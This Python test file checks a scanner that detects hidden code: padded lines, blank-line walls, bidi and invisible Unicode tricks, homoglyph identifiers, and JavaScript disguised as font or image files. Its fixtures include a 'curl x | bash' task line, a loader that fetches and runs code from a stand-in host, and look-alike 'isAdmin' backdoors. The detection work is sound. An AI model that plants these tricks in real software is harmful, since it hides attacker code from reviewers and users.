"""Hidden code: whitespace padding, blank-line walls, invisible characters, homoglyphs, disguises."""

from __future__ import annotations

from inspector.model import Category, Severity
from inspector.static.text import check_bytes
from inspector.static.text.common import Deadline
from inspector.static.text.hidden import check_invisible, check_whitespace
from inspector.static.text.homoglyphs import check_homoglyphs


def rules(findings) -> set[str]:
    return {f.rule for f in findings}


def test_code_after_380_spaces_is_found_with_the_hidden_part_quoted() -> None:
    line = "const x = 1;" + " " * 380 + "fetch('https://a.test/x').then(r => r.json())"
    [finding] = check_whitespace("public/vite.cookie.js", ["// ok", line], Deadline(5))
    assert finding.category == Category.HIDDEN_CODE
    assert finding.severity == Severity.HIGH
    assert (finding.line, finding.column) == (2, 12 + 380 + 1)
    assert finding.evidence.startswith("fetch('https://a.test/x')")


def test_padding_in_json_and_markdown_is_found_too() -> None:
    json_line = '    "osx": {' + " " * 200 + '"command": "curl x | bash"'
    [in_json] = check_whitespace(".vscode/tasks.json", [json_line], Deadline(5))
    assert in_json.severity == Severity.HIGH
    [in_md] = check_whitespace("NOTES.md", ["hello" + " " * 150 + "x = eval(y)"], Deadline(5))
    assert in_md.severity == Severity.HIGH  # eval is dangerous wherever it hides


def test_short_padding_trailing_blanks_and_tables_are_quiet() -> None:
    lines = [
        "a" + " " * 100 + "b = 1;",  # under the threshold
        "x = 1;" + " " * 500,  # trailing blanks hide nothing
        "| col |" + " " * 200 + "| next |",  # a wide table, not code
    ]
    assert check_whitespace("a.js", lines, Deadline(5)) == []


def test_code_below_a_wall_of_blank_lines() -> None:
    lines = ["module.exports = {};", *([""] * 250), "require('child_process').exec(x)"]
    [finding] = check_whitespace("tailwind.config.js", lines, Deadline(5))
    assert finding.rule == "hidden-code.blank-line-padding"
    assert finding.line == 252
    assert check_whitespace("a.js", ["x = 1;", *([""] * 50), "y = 2;"], Deadline(5)) == []


def test_trojan_source_bidi_in_code_is_high_and_in_prose_low() -> None:
    source = "if (isAdmin) { /* \u202e } \u2066 if (isAdmin) \u2069 \u2066 */ grant(); }"
    [in_code] = check_invisible("auth.js", source, Deadline(5))
    assert (in_code.rule, in_code.severity) == ("hidden-code.bidi", Severity.HIGH)
    [in_prose] = check_invisible("README.md", "hello \u202e world", Deadline(5))
    assert in_prose.severity == Severity.LOW


def test_glassworm_variation_selector_run_is_an_invisible_payload() -> None:
    payload = "".join(chr(0xE0100 + i) for i in range(40))
    [finding] = check_invisible("index.js", f"const s = `{payload}`; eval(decode(s));", Deadline(5))
    assert finding.rule == "hidden-code.invisible-payload"
    assert finding.severity == Severity.HIGH


def test_one_presentation_selector_after_a_character_with_an_emoji_form_is_text() -> None:
    # express/lodash .github/workflows/codeql.yml: "# \u2139\ufe0f Command-line programs ..."
    for text in (
        "# \u2139\ufe0f note",
        "\u2764\ufe0f",
        "\u2600\ufe0e",
        "1\ufe0f\u20e3",
        "\u203c\ufe0f",
        "\u845b\U000e0100",
    ):
        assert check_invisible("ci.yml", text, Deadline(5)) == [], repr(text)
        assert check_invisible("ui.js", f"const s = '{text}';", Deadline(5)) == [], repr(text)


def test_selectors_without_a_base_or_in_runs_are_still_reported() -> None:
    cases = {
        "const a\ufe0f = 1;": "hidden-code.variation-selector",  # after an ASCII letter
        "const s = `\ufe0f\ufe0e`;": "hidden-code.variation-selector",  # a run with no base
        "const s = '\U000e0100';": "hidden-code.variation-selector",  # supplement selector, no ideograph
        "const s = '\u2764" + "\ufe0f" * 6 + "';": "hidden-code.invisible-payload",  # a run after an emoji
        "const s = '" + "\ufe00\ufe01" * 4 + "';": "hidden-code.invisible-payload",
    }
    for source, rule in cases.items():
        [finding] = check_invisible("index.js", source, Deadline(5))
        assert finding.rule == rule, repr(source)
        assert finding.severity.rank >= Severity.MEDIUM.rank


def test_emoji_sequences_bom_and_icon_glyphs_are_quiet() -> None:
    text = "\ufeffconst ok = '\u2764\ufe0f \U0001f469\u200d\U0001f4bb \U0001f3f4\U000e0067\U000e0062\U000e007f \uf101';"
    assert check_invisible("ui.js", text, Deadline(5)) == []


def test_zero_width_in_code_is_reported_but_not_in_prose() -> None:
    assert rules(check_invisible("a.js", "const ad\u200bmin = 1;", Deadline(5))) == {"hidden-code.zero-width"}
    assert check_invisible("a.md", "some\u200bword", Deadline(5)) == []


def test_hangul_filler_identifier_is_reported_unless_the_file_is_korean() -> None:
    assert rules(check_invisible("a.js", "const {timeout,\u3164} = req.query;", Deadline(5))) == {
        "hidden-code.hangul-filler"
    }
    assert check_invisible("a.js", "const s = '\uc548\ub155'; const {\u3164} = q;", Deadline(5)) == []


def test_homoglyph_identifier_colliding_with_an_ascii_one_is_high() -> None:
    text = "function isAdmin() { return false; }\nfunction is\u0410dmin() { return true; }\nis\u0410dmin();"
    findings = check_homoglyphs("auth.js", text, Deadline(5))
    assert findings and findings[0].severity == Severity.HIGH and findings[0].line == 2


def test_non_latin_words_and_non_code_files_are_quiet() -> None:
    assert check_homoglyphs("i18n.js", "const greeting = '\u041f\u0440\u0438\u0432\u0435\u0442';", Deadline(5)) == []
    assert check_homoglyphs("notes.txt", "p\u0430ypal", Deadline(5)) == []


def test_homoglyph_identifiers_are_found_in_every_kind_of_code_file() -> None:
    cyrillic_es = "ex\u0441eption"  # reads as "exception"
    sources = {
        "a.py": f"def {cyrillic_es}():\n    pass\n",
        "a.ts": f"export const {cyrillic_es}: number = 1;\n",
        "a.js": f"const t = `${{{cyrillic_es}}}`;\n",  # a template substitution is code
        "a.go": f"func {cyrillic_es}() {{}}\n",
        "a.html": f"<p>hello</p><script>var {cyrillic_es} = 1;</script>",
    }
    for path, source in sources.items():
        [finding] = check_homoglyphs(path, source, Deadline(5))
        assert (finding.severity, finding.line) == (Severity.MEDIUM, 1), path
        assert "reads as 'exception'" in finding.message


def test_look_alike_letters_in_strings_comments_and_urls_are_not_identifiers() -> None:
    # lodash vendor/backbone/test/router.js and freqtrade tests/conftest.py
    backbone = (
        "Backbone.history.start({root: '\u00aeoo\u03c4', pushState: true});\n"
        "location.replace('http://example.com/\u00aeoo\u03c4/nyc');\n"
    )
    assert check_homoglyphs("vendor/backbone/test/router.js", backbone, Deadline(5)) == []
    python = '# an ex\u0441eption is raised\nmessage = "ex\u0441eption"\nurl = "https://x.test/\u0441at"\n'
    assert check_homoglyphs("tests/conftest.py", python, Deadline(5)) == []
    go = '// ex\u0441eption\nvar s = "ex\u0441eption"\n'
    assert check_homoglyphs("a.go", go, Deadline(5)) == []
    assert (
        check_homoglyphs("page.html", "<p>ex\u0441eption</p><script>var s = 'ex\u0441eption';</script>", Deadline(5))
        == []
    )


def test_bilingual_identifiers_are_low_and_non_look_alike_letters_quiet() -> None:
    # Cyrillic letters with no Latin twin (т) show on screen: a bilingual name, not a disguise.
    [bilingual] = check_homoglyphs("a.py", "get\u0421\u0442\u0430\u0442\u0443\u0441 = 1\n", Deadline(5))
    assert bilingual.severity == Severity.LOW
    assert check_homoglyphs("physics.py", "\u0394t = 0.1\n\u03c3x = 2\n", Deadline(5)) == []


def test_trojan_source_controls_in_code_stay_high_next_to_the_homoglyph_changes() -> None:
    source = "const access = 'user\u202e \u2066// admin\u2069 \u2066';"
    [finding] = check_invisible("src/middleware/auth.js", source, Deadline(5))
    assert (finding.rule, finding.severity) == ("hidden-code.bidi", Severity.HIGH)


JS_PAYLOAD = b"""const https = require('https');
const run = (s) => new Function('require', s)(require);
function go() {
  https.get('https://fonts.test/x', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => run(d)); });
}
go();
"""


def test_javascript_named_like_a_font_or_ds_store_is_disguised_code() -> None:
    for path in ("public/fonts/fa-brands-400.woff2", "src/config/.svn/.DS_Store", "assets/logo.png"):
        facts = check_bytes(path, JS_PAYLOAD)
        [finding] = [f for f in facts.findings if f.rule == "hidden-code.disguised-file"]
        assert finding.severity == Severity.HIGH
        assert facts.disguised_language == "javascript"


def test_real_fonts_images_and_prose_are_not_disguised() -> None:
    assert check_bytes("a.woff2", b"wOF2\x00\x01" + JS_PAYLOAD).disguised_language is None
    assert check_bytes("a.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32).disguised_language is None
    assert (
        check_bytes("LICENSE.txt", b"Permission is hereby granted, free of charge, to any person.").disguised_language
        is None
    )
    assert check_bytes(".git/hooks/pre-commit.sample", b"#!/bin/sh\nexec git diff-index --check HEAD\n").findings == ()


def test_text_file_holding_a_program_is_medium() -> None:
    facts = check_bytes("notes.txt", JS_PAYLOAD)
    [finding] = [f for f in facts.findings if f.rule == "hidden-code.disguised-file"]
    assert finding.severity == Severity.MEDIUM
